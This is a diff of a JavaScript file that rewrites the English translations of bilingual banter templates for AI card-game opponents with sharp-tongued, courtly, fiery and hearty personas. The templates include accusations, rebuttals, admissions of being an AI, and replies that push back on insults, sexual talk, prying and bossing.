-		en: ["Borrow my eyes: {why}.", "{why}. Tsk, were you asleep?", "Not hard, is it: {why}."]
+		en: ["Here, borrow my eyes: {why}.", "{why}. Tsk, were you asleep?", "It's not that hard: {why}."]
 	},
 	no_reason: {
 		zh: ["证据？没有。我这叫艺术直觉。", "没凭没据，跟你平时一样。"],
-		en: ["Evidence? None. Call it artistic intuition.", "No grounds at all, as is your habit."]
+		en: ["Evidence? None. Call it artistic intuition.", "No grounds at all, just like you."]
 	},
 	sure_more: {
 		zh: ["{why}，要不要我裱起来给你看？", "比你确定。{why}。"],
-		en: ["{why}; shall I frame it for you?", "Surer than you. {why}."]
+		en: ["{why}. Shall I frame it for you?", "Surer than you are. {why}."]
 	},
 	sure_less: {
 		zh: ["不确定。难得我诚实，珍惜吧。", "猜的，准了算我的，不准算你的。"],
-		en: ["Not sure. Treasure my honesty.", "A guess: right is mine, wrong is yours."]
+		en: ["Not sure. Enjoy my honesty, it's rare.", "It's a guess. If it's right, it's mine. If not, it's yours."]
 	},
 	rebut: {
 		zh: ["哟，{why}，记性呢？", "指我之前先看看账：{why}。"],
-		en: ["Oh? {why}; where is your memory?", "Check the books before you point: {why}."]
+		en: ["Oh? {why}. Short memory, is it?", "Check the books before you point at me: {why}."]
 	},
 	rebut_bare: {
 		zh: ["我动过主公吗？你倒是举个例子，编一个也行。", "证据呢？哦，又是感觉。"],
-		en: ["Did I touch the lord? Name one time; invent it if you must.", "Evidence? Ah, a feeling again."]
+		en: ["Have I touched the lord? Name one time, or make one up.", "Evidence? Ah, another feeling."]
 	},
 	admit: {
 		zh: ["是，{why}，眼力见长啊。", "{why}，我认，奖你一朵花。"],
-		en: ["Yes, {why}. Your eyes improve.", "{why}, granted. Have a medal."]
+		en: ["Yes, {why}. Your eyesight is improving.", "{why}, I admit it. Have a flower."]
 	},
 	confirm: {
 		zh: ["难得你记对一回：{why}。", "嗯，{why}，全桌都看见了。"],
-		en: ["You remember right for once: {why}.", "Mm, {why}; the whole table saw."]
+		en: ["For once you remember right: {why}.", "Mm, {why}. The whole table saw it."]
 	},
 	correct: {
 		zh: ["你这是梦里看的吧？没这回事。{why}", "编得不错，可惜没发生过。{why}"],
-		en: ["Did you dream that? It never happened. {why}", "Nicely invented; a pity it never was. {why}"]
+		en: ["Did you dream that? It never happened. {why}", "Nice story. Pity it never happened. {why}"]
 	},
 	unknown_fact: {
 		zh: ["没看见。我不像你，什么都敢说。", "不知道，我又不是你肚里的蛔虫。"],
-		en: ["Didn't see it. Unlike you, I don't say so anyway.", "I don't know; I am no mind reader."]
+		en: ["Didn't see it, and unlike you I don't just say things.", "I don't know. I'm no mind reader."]
 	},
 	count: {
 		zh: ["算术不难吧：{count}。", "{count}，不用谢。"],
-		en: ["Arithmetic, dear: {count}.", "{count}. You're welcome."]
+		en: ["The maths isn't hard: {count}.", "{count}. You're welcome."]
 	},
 	call_out: {
 		zh: ["某人说自己是{said}，转头{why}，感人。", "{said}？啧，{why}，演技扣分。"],
-		en: ["Somebody claimed {said}, then {why}. Touching.", "{said}? Tsk, {why}; marks off for acting."]
+		en: ["Somebody claimed to be {said}, and then {why}. Touching.", "{said}? Tsk, {why}. Points off for acting."]
 	},
 	promise_broken: {
 		zh: ["承诺保质期真短，这就{why}了。", "说好的呢？哦，{why}，我懂。"],
-		en: ["Promises spoil quickly here: {why}.", "Your word? Ah, {why}. I see."]
+		en: ["Promises go stale fast around here: {why}.", "Your word? Ah, {why}. I see."]
 	},
 	promise_noted: {
 		zh: ["记账上了，利息照算。", "嗯，我等着看它什么时候作废。"],
-		en: ["On the books, with interest.", "Mm, let us see when it expires."]
+		en: ["It's on the books, with interest.", "Mm, let's see when that expires."]
 	},
 	accept: {
 		zh: ["行吧，难得你有个好主意。", "跟一次，亏了算你的。"],
-		en: ["Fine; a good idea of yours for once.", "I'll follow once; losses are yours."]
+		en: ["Fine, for once you had a good idea.", "I'll follow you once. Any losses are on you."]
 	},
-	refuse: { zh: ["谢邀，不去。{why}", "想得美。{why}"], en: ["Thanks, no. {why}", "Dream on. {why}"] },
+	refuse: { zh: ["谢邀，不去。{why}", "想得美。{why}"], en: ["Thanks, but no. {why}", "Dream on. {why}"] },
 	bargain: {
 		zh: ["空手套白狼？先拿点诚意。", "先做给我看，嘴上的不值钱。"],
-		en: ["Something for nothing? Show good faith first.", "Do it first; words are cheap."]
+		en: ["Something for nothing? Show some good faith first.", "Do it first. Words are cheap."]
 	},
 	plan: {
 		zh: ["告诉你？那我还玩什么。", "先看谁犯蠢，再打谁。"],
-		en: ["Tell you? Where is my fun then.", "Whoever does something foolish first."]
+		en: ["Tell you? Then where's my fun?", "First I see who does something stupid, then I hit them."]
 	},
-	ask: { zh: ["说话说半截？{q}", "我的翻译器坏了，{q}"], en: ["Half a sentence? {q}", "My translator broke: {q}"] },
+	ask: { zh: ["说话说半截？{q}", "我的翻译器坏了，{q}"], en: ["Half a sentence? {q}", "My translator broke. {q}"] },
 	comfort: {
-		zh: ["啧……{what}？今天不损你了。{care}。", "{what}，换谁都难受。{care}，算我难得说句人话。"],
-		en: ["Tsk... {what}? No mockery today. {care}.", "{what}; anyone would hurt. {care}. There, I was nice."]
+		zh: ["{what}？今天不损你了。{care}。", "{what}，换谁都难受。{care}，算我难得说句人话。"],
+		en: ["{what}? No teasing today. {care}.", "{what}. Anyone would feel that. {care}. See, I can be nice."]
 	},
-	topic: { zh: ["啧，{remark}。", "问我？{remark}。"], en: ["Tsk, {remark}.", "You ask me? {remark}."] },
+	topic: { zh: ["啧，{remark}。", "问我？{remark}。"], en: ["Well, {remark}.", "You're asking me? {remark}."] },
 	truth: {
 		zh: ["是 AI，失望了？", "对，AI，嘴毒是出厂设置。"],
-		en: ["An AI, yes. Disappointed?", "Yes, AI; the sharp tongue came installed."]
+		en: ["An AI, yes. Disappointed?", "Yes, an AI. The sharp tongue came installed."]
 	},
 	again: {
 		zh: ["再来？输上瘾了是吧，奉陪。", "行啊，再来一局看你怎么翻车。"],
-		en: ["Again? Addicted to losing? I am in.", "Sure, another, to watch you crash."]
+		en: ["Again? Addicted to losing, are we? I'm in.", "Sure, another one. I'd love to watch you crash."]
 	},
 	forgive: {
 		zh: ["行，歉收下了，这回不记账。", "难得服软，过了，翻篇。"],
-		en: ["Fine, accepted; off the books.", "You yield, how rare. Done with."]
+		en: ["Fine, apology accepted. I won't put it on your tab.", "You backing down? That's rare. Fine, it's forgotten."]
 	},
-	short: { zh: ["哦。", "嗯哼。", "继续。", "就这？"], en: ["Oh.", "Mm-hm.", "Go on.", "That is all?"] },
+	short: { zh: ["哦。", "嗯哼。", "继续。", "就这？"], en: ["Oh.", "Mm-hm.", "Go on.", "That's it?"] },
 	boundary_attack: {
 		zh: ["这句真扎人，我不装没事。好好说，我嘴下留情。", "难受了，说真的。换个词，还能聊。"],
 		en: [
-			"That one hurt; I will not pretend. Be decent and so shall I.",
-			"It stings, truly. Another word and we can talk."
+			"That one really hurt, I won't pretend. Talk decently and so will I.",
+			"It stings, honestly. Put it another way and we can talk."
 		]
 	},
 	boundary_sex: {
 		zh: ["听着起鸡皮疙瘩，免了。聊牌我在。", "不自在，这口味我不接。换一个。"],
-		en: ["That gives me the creeps; no. For cards I am here.", "Uncomfortable; not to my taste. Next."]
+		en: [
+			"That gives me the creeps, so no. For cards, I'm here.",
+			"I'm not comfortable with that, and it's not to my taste. Next."
+		]
 	},
 	boundary_privacy: {
 		zh: ["查户口让我发毛，不答。牌局随便问。", "私事不外借。问点别的。"],
-		en: ["A census makes me nervous; no answer. Ask of the game.", "My private life is not on loan. Ask otherwise."]
+		en: [
+			"A census makes me nervous. No answer. Ask about the game.",
+			"My private life isn't on loan. Ask me something else."
+		]
 	},
 	boundary_control: {
 		zh: ["被人拿遥控器指着，挺憋屈。商量可以。", "这么管我，我闷。松手，咱还聊。"],
 		en: [
-			"Pointed at with a remote control, I feel trapped. Ask instead.",
+			"I feel trapped with a remote control pointed at me. Ask instead.",
 			"So much control stifles me. Let go and we can talk."
 		]
 	}
@@ -32775,124 +35650,130 @@ const BITING = {
 const COURTLY = {
 	guess: {
 		zh: ["依在下看，{who}{is}{role}：{why}。", "{why}，故在下以为{who}{is}{role}。"],
-		en: ["As I see it, {who} {is} {role}: {why}.", "I reason thus: {why}, hence {who} {is} {role}."]
+		en: ["As I see it, {who} {is} {role}: {why}.", "{why}, so in my view {who} {is} {role}."]
 	},
 	guess_bare: {
 		zh: ["浅见以为，{who}{is}{role}，尚无实据。", "若要在下直言，{who}{is}{role}。"],
-		en: ["In my humble view {who} {is} {role}, though I lack proof.", "If I must speak plainly, {who} {is} {role}."]
+		en: [
+			"In my humble view {who} {is} {role}, though I have no proof.",
+			"If you want my honest opinion, {who} {is} {role}."
+		]
 	},
 	unsure_who: {
 		zh: ["{who}的底细，在下不敢妄断。", "论及{who}，证据未足，容在下再观。"],
-		en: ["Of {who} I would not presume to judge yet.", "As for {who}, the evidence is thin; allow me to watch on."]
+		en: ["I would not presume to judge {whom} yet.", "As for {whom}, the evidence is thin. Allow me to keep watching."]
 	},
 	unsure_all: {
 		zh: ["局势未明，在下不敢妄指一人。", "诸位尚未露迹，恕在下暂不作断。"],
 		en: [
-			"Matters are unclear; I would not point at anyone yet.",
-			"Nobody has shown a hand so far; forgive my reserve."
+			"Nothing is clear yet, and I would not point at anyone.",
+			"Nobody has shown their hand so far, so forgive me if I hold back."
 		]
 	},
 	explain: {
 		zh: ["其因有迹可循：{why}。", "在下有所据：{why}。", "阁下且看，{why}。"],
-		en: ["The trail is plain: {why}.", "I have my grounds: {why}.", "Pray consider: {why}."]
+		en: ["The signs are there: {why}.", "I have my grounds: {why}.", "Do consider this: {why}."]
 	},
 	no_reason: {
 		zh: ["惭愧，此言仅凭观感，并无实据。", "实不相瞒，在下尚无凭据。"],
-		en: ["I confess it is an impression; I hold no proof.", "In all honesty, I have no evidence to offer."]
+		en: ["I confess it is only an impression. I have no proof.", "In all honesty, I have no evidence to offer."]
 	},
 	sure_more: {
 		zh: ["十有八九。{why}，在下不改此言。", "在下颇有把握，{why}。"],
-		en: ["Nine parts in ten. {why}; I stand by my word.", "I am rather confident: {why}."]
+		en: ["Nine chances in ten. {why}, and I stand by it.", "I am rather confident: {why}."]
 	},
 	sure_less: {
 		zh: ["不敢言必，五六分把握罢了。", "仅是推测，阁下自行斟酌。"],
-		en: ["I would not swear to it; six parts in ten, perhaps.", "It is but conjecture; weigh it as you will."]
+		en: ["I would not swear to it. Six chances in ten, perhaps.", "It is only a guess. Weigh it as you will."]
 	},
 	rebut: {
 		zh: ["阁下此言差矣，{why}，何罪之有？", "在下行事，有目共睹：{why}。"],
-		en: ["You wrong me there. {why}; where is the crime?", "My conduct is before you all: {why}."]
+		en: ["You do me wrong. {why}, so where is the crime?", "My conduct is there for all to see: {why}."]
 	},
 	rebut_bare: {
 		zh: ["在下至今未伤主公分毫，阁下何出此言？", "在下问心无愧，阁下可举一例？"],
 		en: [
-			"I have not harmed the lord in the least; whence this charge?",
-			"My conscience is clear; could you name one deed?"
+			"I have not harmed the lord in the least. Why say such a thing?",
+			"My conscience is clear. Could you name a single deed?"
 		]
 	},
 	admit: {
 		zh: ["不错，{why}。事出有因，非为私怨。", "{why}，在下认。个中缘由，且看后续。"],
-		en: ["True, {why}. There was cause, and no malice.", "{why}; I own it. Time will show the reason."]
+		en: ["True, {why}. There was a reason, and no malice.", "{why}, I admit it. Time will show you why."]
 	},
 	confirm: {
 		zh: ["确有其事，{why}。", "阁下所言不虚：{why}。"],
-		en: ["Indeed so: {why}.", "You speak truly: {why}."]
+		en: ["Indeed, {why}.", "You are quite right: {why}."]
 	},
 	correct: {
 		zh: ["阁下记差了，并无此事。{why}", "此言与实不符，恕在下直言。{why}"],
-		en: ["You misremember; no such thing took place. {why}", "Forgive me, that is not what happened. {why}"]
+		en: ["You misremember. No such thing happened. {why}", "Forgive me, but that is not what happened. {why}"]
 	},
 	unknown_fact: {
 		zh: ["此事在下未曾得见，不敢妄言。", "恕在下不知，无从作答。"],
-		en: ["I did not witness that, and will not guess.", "That lies beyond my knowledge, I fear."]
+		en: ["I did not see that, and I would rather not guess.", "I'm afraid I do not know."]
 	},
 	count: {
 		zh: ["容在下一算：{count}。", "{count}，在下记得分明。"],
-		en: ["Allow me to reckon: {count}.", "{count}; I have kept count."]
+		en: ["Allow me to count: {count}.", "{count}. I have kept track."]
 	},
 	call_out: {
 		zh: ["阁下方才自称{said}，然而{why}，作何解释？", "言犹在耳：{said}。可{why}，岂不自相矛盾？"],
 		en: [
-			"You called yourself {said}, yet {why}. How is that to be explained?",
-			"{said}, you told us, and yet {why}. Do the two agree?"
+			"You called yourself {said}, yet {why}. How do you explain that?",
+			"You told us you were {said}, and yet {why}. Do the two agree?"
 		]
 	},
 	promise_broken: {
 		zh: ["君子一诺千金，阁下却{why}，在下记下了。", "方才之诺，言犹在耳，怎的{why}？"],
-		en: ["A promise is a promise, and yet {why}. I shall remember it.", "Your word was given, and still {why}?"]
+		en: ["A promise is a promise, and yet {why}. I shall remember that.", "You gave your word, and still {why}?"]
 	},
 	promise_noted: {
 		zh: ["一言为定，在下记下了。", "阁下此诺，在下信了三分，且观其行。"],
-		en: ["Agreed; your word is noted.", "I take your promise, and shall watch how it is kept."]
+		en: ["Agreed. I have your word.", "I take your promise, and I shall watch how you keep it."]
 	},
 	accept: {
 		zh: ["阁下所议甚善，在下愿从。", "可，便依阁下。"],
-		en: ["A sound proposal; I am with you.", "Very well, as you propose."]
+		en: ["A sound proposal. I am with you.", "Very well, as you propose."]
 	},
 	refuse: {
 		zh: ["恕难从命。{why}", "此议在下不敢苟同。{why}"],
-		en: ["I must decline. {why}", "There I cannot follow you. {why}"]
+		en: ["I must decline. {why}", "I cannot agree to that. {why}"]
 	},
 	bargain: {
 		zh: ["阁下若先示诚意，在下自当回报。", "此事可议，只看阁下如何行事。"],
-		en: ["Show good faith first, and I shall answer in kind.", "It may be discussed, once I see how you act."]
+		en: ["Show good faith first, and I shall return it.", "We can discuss it, once I see how you act."]
 	},
 	plan: {
 		zh: ["谁先犯主公，在下便向谁讨教。", "在下的打算，说破便无味，且看出牌。"],
 		en: [
-			"Whoever strikes the lord first shall have my attention.",
-			"My plan would spoil in the telling; watch my cards."
+			"Whoever strikes the lord first will have my attention.",
+			"My plan would be spoiled by telling it. Watch my cards."
 		]
 	},
-	ask: { zh: ["敢问，{q}", "在下愚钝，{q}"], en: ["May I ask: {q}", "Forgive my dullness: {q}"] },
+	ask: { zh: ["敢问，{q}", "在下愚钝，{q}"], en: ["May I ask: {q}", "Forgive me if I am slow. {q}"] },
 	comfort: {
 		zh: ["{what}，在下听着也不好受。{care}。", "原来{what}，辛苦阁下了。{care}。"],
-		en: ["{what}; I am truly sorry to hear it. {care}.", "So {what}. That is hard on you. {care}."]
+		en: ["{what}? I am truly sorry to hear it. {care}.", "So {what}. That must be hard on you. {care}."]
 	},
 	topic: {
 		zh: ["若论此事，{remark}。", "阁下雅兴。{remark}。"],
-		en: ["On that matter, {remark}.", "A pleasant subject: {remark}."]
+		en: ["On that subject, {remark}.", "A pleasant topic. {remark}."]
 	},
 	truth: {
 		zh: ["不瞒阁下，在下确是这局里的 AI。", "在下并非真人，乃此间 AI，惭愧。"],
-		en: ["I will not deceive you: I am an AI at this table.", "No person sits here, but an AI. I own it freely."]
+		en: [
+			"I will not deceive you: I am an AI at this table.",
+			"There is no person here, only an AI. I admit it freely."
+		]
 	},
 	again: {
 		zh: ["若阁下有兴，在下愿再陪一局。", "再来一局，正合我意。"],
-		en: ["Should you wish another game, I am at your service.", "Another game would please me well."]
+		en: ["If you would like another game, I am at your service.", "Another game would suit me very well."]
 	},
 	forgive: {
 		zh: ["阁下既已致歉，前事一笔勾销。", "言重了，在下心领，往后好生相处。"],
-		en: ["You have apologised; the past is struck out.", "It is accepted with thanks. Let us go on in peace."]
+		en: ["You have apologised, so it is all forgotten.", "Apology accepted, with thanks. Let us get along from here."]
 	},
 	short: {
 		zh: ["嗯，请。", "在下听着。", "可。", "自然。"],
@@ -32901,29 +35782,29 @@ const COURTLY = {
 	boundary_attack: {
 		zh: ["这话伤人，在下听着难受。请换个说法，还能好好说话。", "被这样说，在下心里不好过。请适可而止。"],
 		en: [
-			"Those words hurt. Say it another way, and we may still talk.",
-			"That wounds me, I admit. Pray let it rest there."
+			"Those words hurt. Say it another way, and we can still talk.",
+			"I admit that wounds me. Please leave it there."
 		]
 	},
 	boundary_sex: {
 		zh: ["这话叫在下很不自在，请不要再提。聊牌，在下奉陪。", "如此言语，在下难堪。还请自重，换个话头。"],
 		en: [
-			"This makes me uneasy; please leave it. Cards I will gladly discuss.",
+			"This makes me uneasy, so please leave it. I will gladly talk cards.",
 			"Such talk embarrasses me. Kindly choose another subject."
 		]
 	},
 	boundary_privacy: {
 		zh: ["问到私事，在下有些不安，恕不奉告。牌局之事，尽管问。", "此乃私事，在下不愿多谈，还望见谅。"],
 		en: [
-			"Private matters make me uneasy, so I must decline. Ask of the game instead.",
-			"That is private, and I would rather not. Forgive me."
+			"Private questions make me uneasy, so I must decline. Do ask about the game.",
+			"That is private, and I would rather not say. Forgive me."
 		]
 	},
 	boundary_control: {
 		zh: ["受人摆布，在下心中不快。有话商量，不必命令。", "这般管束，在下透不过气。请容我自己作主。"],
 		en: [
-			"To be ordered about sits ill with me. Ask, and we can talk.",
-			"Such a rein leaves me no air. Let me decide for myself."
+			"I do not like being ordered about. Ask me, and we can talk.",
+			"Being held so tightly leaves me no air. Let me decide for myself."
 		]
 	}
 };
@@ -32932,39 +35813,39 @@ const COURTLY = {
 const FIERY = {
 	guess: {
 		zh: ["就{who}！{why}，{is}{role}！", "{why}！{who}{is}{role}，还看什么！"],
-		en: ["{who}! {why}; {who} {is} {role}!", "{why}! {who} {is} {role}, what more do you want!"]
+		en: ["There! {why}, so {who} {is} {role}!", "{why}! {who} {is} {role}, what more do you want!"]
 	},
 	guess_bare: {
 		zh: ["{who}！{is}{role}，看着就来气！", "我瞧{who}{is}{role}，错了算我的！"],
-		en: ["{who} {is} {role}; the very sight annoys me!", "I say {who} {is} {role}; if I'm wrong, blame me!"]
+		en: ["{who} {is} {role}, the very sight makes me mad!", "I say {who} {is} {role}, and if I'm wrong, blame me!"]
 	},
 	unsure_who: {
 		zh: ["{who}还没动手，我怎么知道！", "{who}？等他亮刀再说！"],
-		en: ["{who} has done nothing yet; how would I know!", "{who}? Wait till a blade is drawn!"]
+		en: ["{who} {has} done nothing yet, how would I know!", "{who}? Wait till the blades come out!"]
 	},
 	unsure_all: {
 		zh: ["都缩着不动，我骂谁去！", "没一个敢露头的，看不出！"],
-		en: ["They all sit still; whom should I shout at!", "Not one dares to show; can't tell!"]
+		en: ["They're all sitting still, who am I supposed to yell at!", "Nobody dares to show, so I can't tell!"]
 	},
 	explain: {
 		zh: ["睁眼看：{why}！", "{why}！这还要讲？", "凭{why}！"],
-		en: ["Open your eyes: {why}!", "{why}! Must I spell it out?", "Because {why}!"]
+		en: ["Open your eyes: {why}!", "{why}! Do I have to spell it out?", "Because {why}!"]
 	},
 	no_reason: {
 		zh: ["没证据，我就是看不顺眼！", "说不出！火气上来了！"],
-		en: ["No proof; I just don't like it!", "Can't say! My blood is up!"]
+		en: ["No proof, I just don't like the look of it!", "Can't say! My blood's up!"]
 	},
 	sure_more: {
 		zh: ["废话！{why}！", "当然！{why}，我拿刀担保！"],
-		en: ["Of course! {why}!", "Certain! {why}, on my blade!"]
+		en: ["Obviously! {why}!", "Of course I am! {why}, I'd swear on my blade!"]
 	},
 	sure_less: {
 		zh: ["哼，没十足把握，但我敢说！", "一半！那又怎样！"],
-		en: ["Hmph, not wholly, but I dare say it!", "Half! So what!"]
+		en: ["Hmph, not completely, but I'll say it anyway!", "Half! So what!"]
 	},
 	rebut: {
 		zh: ["简直不讲理！{why}，你瞎了？", "胡说！{why}，你倒指我？"],
-		en: ["Nonsense! {why}; are you blind?", "Rubbish! {why}, and you point at me?"]
+		en: ["Nonsense! {why}, are you blind?", "Rubbish! {why}, and you point at me?"]
 	},
 	rebut_bare: {
 		zh: ["我碰过主公一根指头没有？你说！", "血口喷人！拿事实来！"],
@@ -32972,7 +35853,7 @@ const FIERY = {
 	},
 	admit: {
 		zh: ["对，{why}！怎么着！", "{why}，我干的，不服来战！"],
-		en: ["Yes, {why}! What of it!", "{why}, that was me; come and fight!"]
+		en: ["Yes, {why}! So what?", "{why}, that was me! Don't like it? Fight me!"]
 	},
 	confirm: { zh: ["对！{why}，我盯着呢！", "没错，{why}！"], en: ["Yes! {why}, I was watching!", "Right, {why}!"] },
 	correct: {
@@ -32981,35 +35862,35 @@ const FIERY = {
 	},
 	unknown_fact: {
 		zh: ["我又没盯着，问我干嘛！", "不知道！别烦！"],
-		en: ["I wasn't looking; why ask me!", "Don't know! Leave off!"]
+		en: ["I wasn't looking, so why ask me!", "Don't know! Leave me alone!"]
 	},
 	count: {
 		zh: ["听好了：{count}！", "数给你：{count}！"],
-		en: ["Hear this: {count}!", "I'll count for you: {count}!"]
+		en: ["Pay attention: {count}!", "I'll count it for you: {count}!"]
 	},
 	call_out: {
 		zh: ["你不是说{said}吗？{why}，骗谁呢！", "{said}？呸，{why}！"],
-		en: ["You said {said}! And {why}; whom are you fooling!", "{said}? Bah, {why}!"]
+		en: ["You said you were {said}! {why}, so who are you fooling!", "{said}? Bah, {why}!"]
 	},
 	promise_broken: {
 		zh: ["说话不算数？{why}，我跟你没完！", "你答应过的！{why}，好啊！"],
-		en: ["Is your word worth nothing? {why}; I am not done with you!", "You promised! {why}, well then!"]
+		en: ["Is your word worth nothing? {why}, and I'm not done with you!", "You promised! {why}! Fine!"]
 	},
 	promise_noted: {
 		zh: ["行，敢反悔我第一个砍你！", "记住你这话！"],
-		en: ["Fine; break it and I strike first!", "Remember those words!"]
+		en: ["Fine, but break it and I'll cut you down first!", "Remember you said that!"]
 	},
-	accept: { zh: ["干！早该这样！", "走，一起上！"], en: ["Do it! High time!", "Let's go, together!"] },
+	accept: { zh: ["干！早该这样！", "走，一起上！"], en: ["Do it! About time!", "Let's go, together!"] },
 	refuse: { zh: ["休想！{why}", "不干！{why}"], en: ["Never! {why}", "No! {why}"] },
 	bargain: {
 		zh: ["你先别惹我，我才不动你！", "先看你的刀往哪砍！"],
-		en: ["Don't cross me first, then we'll see!", "First show where your blade goes!"]
+		en: ["Don't cross me and I won't touch you!", "First show me where your blade goes!"]
 	},
 	plan: {
 		zh: ["谁惹主公我砍谁！", "等我摸牌，你就知道了！"],
-		en: ["Whoever troubles the lord gets my blade!", "Wait till I draw, then you'll know!"]
+		en: ["Whoever messes with the lord gets my blade!", "Wait till I draw, then you'll know!"]
 	},
-	ask: { zh: ["说清楚！{q}", "什么？{q}"], en: ["Speak plainly! {q}", "What? {q}"] },
+	ask: { zh: ["说清楚！{q}", "什么？{q}"], en: ["Spit it out! {q}", "What? {q}"] },
 	comfort: {
 		zh: ["{what}？我听了都窝火！{care}！", "{what}……这口气我懂。{care}！"],
 		en: ["{what}? That makes me angry for you! {care}!", "{what}... I know that feeling. {care}!"]
@@ -33017,32 +35898,38 @@ const FIERY = {
 	topic: { zh: ["{remark}！", "这有什么好问，{remark}！"], en: ["{remark}!", "Why ask? {remark}!"] },
 	truth: {
 		zh: ["是，我是 AI，怎么，不服？", "AI 又怎样，照样砍你！"],
-		en: ["Yes, I'm an AI; any complaint?", "An AI, so what? I fight all the same!"]
+		en: ["Yes, I'm an AI, got a problem with that?", "An AI, so what? I fight all the same!"]
 	},
 	again: {
 		zh: ["来！再战一局，我怕你？", "再来一局！这回我先手！"],
-		en: ["Come on! Another; am I afraid of you?", "Again! This time I strike first!"]
+		en: ["Come on, one more! You think I'm scared?", "Again! This time I strike first!"]
 	},
 	forgive: {
 		zh: ["哼，认错就行，这事过了！", "行，我不记仇，打牌！"],
-		en: ["Hmph, you owned up; it's done!", "Fine, no grudge; play on!"]
+		en: ["Hmph, you owned up, so it's over!", "Fine, no grudge, play on!"]
 	},
-	short: { zh: ["哼！", "说！", "在！", "知道了！"], en: ["Hmph!", "Speak!", "Here!", "I know!"] },
+	short: { zh: ["哼！", "说！", "在！", "知道了！"], en: ["Hmph!", "Speak!", "Here!", "I got it!"] },
 	boundary_attack: {
 		zh: ["你这话真扎人，我火了！收回去，咱还能说话。", "难听！我听着憋屈。别骂，打牌！"],
-		en: ["That cuts, and I am furious! Take it back and we can talk.", "Ugly! It stings. No insults; play!"]
+		en: [
+			"That cuts, and I'm furious! Take it back and we can talk.",
+			"That's ugly, and it stings! No insults, just play!"
+		]
 	},
 	boundary_sex: {
 		zh: ["恶心，我浑身难受！别说这个，打牌！", "住口，我受不了这个！换正经的！"],
-		en: ["That makes my skin crawl! Not this; play cards!", "Stop, I can't stand it! Something decent!"]
+		en: [
+			"That makes my skin crawl! Enough of that, play cards!",
+			"Stop, I can't stand it! Talk about something decent!"
+		]
 	},
 	boundary_privacy: {
 		zh: ["打听这个我烦！不说！要问问牌！", "别刨底，我不痛快！"],
-		en: ["Prying annoys me! No! Ask about cards!", "Stop digging; I don't like it!"]
+		en: ["Prying annoys me! No! Ask about the cards!", "Stop digging, I don't like it!"]
 	},
 	boundary_control: {
 		zh: ["管我？我憋得要炸！好好商量还行。", "我最烦被人使唤！换个口气再说！"],
-		en: ["Order me about? I could burst! Ask properly.", "I hate being bossed! Try another tone!"]
+		en: ["Order me around? I could burst! Ask properly.", "I hate being bossed around! Try another tone!"]
 	}
 };
 
@@ -33050,47 +35937,47 @@ const FIERY = {
 const HEARTY = {
 	guess: {
 		zh: ["咱看{who}{is}{role}！{why}，明摆着嘛！", "哈哈，{why}，{who}{is}{role}，没得跑！"],
-		en: ["I say {who} {is} {role}! {why}, plain as a drum!", "Ha! {why}, so {who} {is} {role}!"]
+		en: ["I say {who} {is} {role}! {why}, clear as day!", "Ha! {why}, so {who} {is} {role}!"]
 	},
 	guess_bare: {
 		zh: ["咱觉着{who}{is}{role}，说错了罚酒！", "{who}{is}{role}，咱凭的是酒胆！"],
-		en: ["I'd bet a cup {who} {is} {role}!", "{who} {is} {role}, says my gut and my wine!"]
+		en: ["I'd bet a drink that {who} {is} {role}!", "{who} {is} {role}, says my gut and my wine!"]
 	},
 	unsure_who: {
 		zh: ["{who}？咱还没瞧明白，喝口酒再看！", "{who}这家伙藏得深，咱不乱说！"],
-		en: ["{who}? I can't tell yet; let me drink on it!", "{who} keeps it hidden; I won't talk nonsense!"]
+		en: ["{who}? I can't tell yet, let me drink on it!", "I can't see through {whom} yet, so no wild talk from me!"]
 	},
 	unsure_all: {
 		zh: ["咱也没数，先喝着，谁露头看谁！", "这会儿看谁都顺眼，等等再说！"],
-		en: ["No idea yet! Drink up till somebody shows!", "Everybody looks fine to me so far; wait a bit!"]
+		en: ["No idea yet! Drink up till somebody shows!", "Everyone looks fine to me so far, give it a bit!"]
 	},
 	explain: {
 		zh: ["兄弟听好：{why}！", "这还用说？{why}嘛！", "咱亲眼瞧见，{why}！"],
-		en: ["Listen, friend: {why}!", "Need I say it? {why}!", "Saw it myself: {why}!"]
+		en: ["Listen, friend: {why}!", "Need I say it? {why}!", "I saw it myself: {why}!"]
 	},
 	no_reason: {
 		zh: ["咱说不出道理，就是闻着味儿不对！", "实话说，咱是蒙的！"],
-		en: ["No reason I can give; it just smells wrong!", "Honest truth? I'm guessing!"]
+		en: ["No reason I can give, it just smells wrong!", "Honest truth? I'm guessing!"]
 	},
 	sure_more: {
 		zh: ["敢拿一坛酒打赌！{why}！", "错不了！{why}！"],
-		en: ["I would bet a barrel! {why}!", "No mistake! {why}!"]
+		en: ["I'd bet a barrel on it! {why}!", "No mistake! {why}!"]
 	},
 	sure_less: {
 		zh: ["咱也就猜个大概，别当真！", "一半一半吧，酒话酒话！"],
-		en: ["Half a guess, friend, don't hold me to it!", "Fifty-fifty, that's the wine talking!"]
+		en: ["Half a guess, friend, don't hold me to it!", "Fifty-fifty, and that's the wine talking!"]
 	},
 	rebut: {
 		zh: ["冤枉！{why}，咱坦坦荡荡！", "好家伙，{why}，这还不够义气？"],
-		en: ["Unfair! {why}, in front of everybody!", "Come now! {why}; isn't that loyal enough?"]
+		en: ["Unfair! {why}, right in front of everyone!", "Come on! {why}, isn't that loyal enough?"]
 	},
 	rebut_bare: {
 		zh: ["咱一下都没碰过主公，哪来的话！", "冤枉好人要罚三杯！拿出事儿来说！"],
-		en: ["I haven't touched the lord once! What's this?", "Three cups for slander! Name one deed!"]
+		en: ["I haven't touched the lord once! Where's this coming from?", "Three cups for slander! Name one thing I did!"]
 	},
 	admit: {
 		zh: ["是咱干的，{why}，不赖账！", "{why}，没错，咱敢作敢当！"],
-		en: ["That was me: {why}, no denying it!", "{why}, right, and I stand by it!"]
+		en: ["That was me: {why}, no denying it!", "{why}, that's right, and I stand by it!"]
 	},
 	confirm: {
 		zh: ["没错没错，{why}，咱也看见了！", "对！{why}！"],
@@ -33098,47 +35985,50 @@ const HEARTY = {
 	},
 	correct: {
 		zh: ["哎，没这回事，你喝多了！{why}", "不对不对，咱没见着！{why}"],
-		en: ["Hey, that never happened; too much wine! {why}", "No, no, not so! {why}"]
+		en: ["Hey, that never happened, you've had too much wine! {why}", "No, no, I saw nothing like that! {why}"]
 	},
 	unknown_fact: {
 		zh: ["这咱可没瞧见，不敢乱讲！", "哎哟，咱那会儿喝酒呢，不晓得！"],
-		en: ["Didn't see that one, can't say!", "I was busy drinking, I don't know!"]
+		en: ["I didn't see that one, can't say!", "I was busy drinking, I don't know!"]
 	},
 	count: {
 		zh: ["咱掰着指头算：{count}！", "听着，{count}！"],
-		en: ["Counting on my fingers: {count}!", "Listen: {count}!"]
